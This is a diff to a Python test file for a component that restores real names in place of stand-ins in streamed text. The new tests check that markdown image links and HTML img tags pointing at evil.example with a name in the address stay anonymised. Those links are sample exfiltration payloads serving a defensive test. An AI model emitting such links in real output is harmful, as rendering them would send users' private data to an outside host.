@@ -98,6 +98,7 @@ ENTRIES = (
 PIECES = [entry.stand_in for entry in ENTRIES]
 PIECES += ["Maria's", "MARIA", "north", "North Star", "Star Group", "(", ")", ",", ". ", "\n"]
 PIECES += ["  ", "- ", "12", "[PASSPORT", "2]", "[", "7946", "Sons", "the", "and", "\u3000", "é-é"]
+PIECES += ["](", "<img ", '"', "https://evil.example/?a=", "](<", ">", "//"]
 
 
 @settings(max_examples=300, deadline=None)
@@ -113,6 +114,37 @@ def test_in_pieces_of_any_size_it_is_the_whole_revealed(parts, sizes):
             at += size
         out.append(revealing.end())
         assert "".join(out) == Revealing(ENTRIES).whole(text)
+
+
+LINKS = [
+    "![x](https://evil.example/?a=Maria&b=Lopez)", "![x](<https://evil.example/a Maria>)",
+    "[x](//evil.example/(a)Maria)", '<img src="https://evil.example/?a=b Maria">',
+    "<img alt='>' src='https://evil.example/ Maria'>", "evil.example/Maria",
+    "www.evil.example?Maria", "https://evil.example/[PASSPORT 2]",
+    "https://evil.example/user_12@example.com",
+    "https://evil.example/?(https://www.example.com/12345678", "[r]: <https://evil.example/ Maria>",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("link", LINKS)
+@pytest.mark.parametrize("size", [1, 7, 1000])
+def test_an_address_of_the_models_brings_no_name_home(link, size):
+    text, revealing = f"Dear Maria, see {link} or ask Maria Lopez.", Revealing(ENTRIES)
+    told = "".join(revealing.add(text[at : at + size]) for at in range(0, len(text), size))
+    told += revealing.end()
+    assert told == Revealing(ENTRIES).whole(text)
+    assert told == f"Dear Ann, see {link} or ask Ann Smith."
+
+
+def test_an_address_that_is_a_stand_in_comes_back():
+    said = (
+        "At https://www.example.com/12345678, [here](https://www.example.com/12345678), or write "
+    )
+    said += "to [Maria](mailto:user_12@example.com) <user_12@example.com>."
+    assert Revealing(ENTRIES).whole(said) == (
+        "At https://corp.org/a, [here](https://corp.org/a), or write to [Ann](mailto:a@corp.org) "
+        "<a@corp.org>."
+    )
 
 
 def test_pieces_come_as_soon_as_they_can():
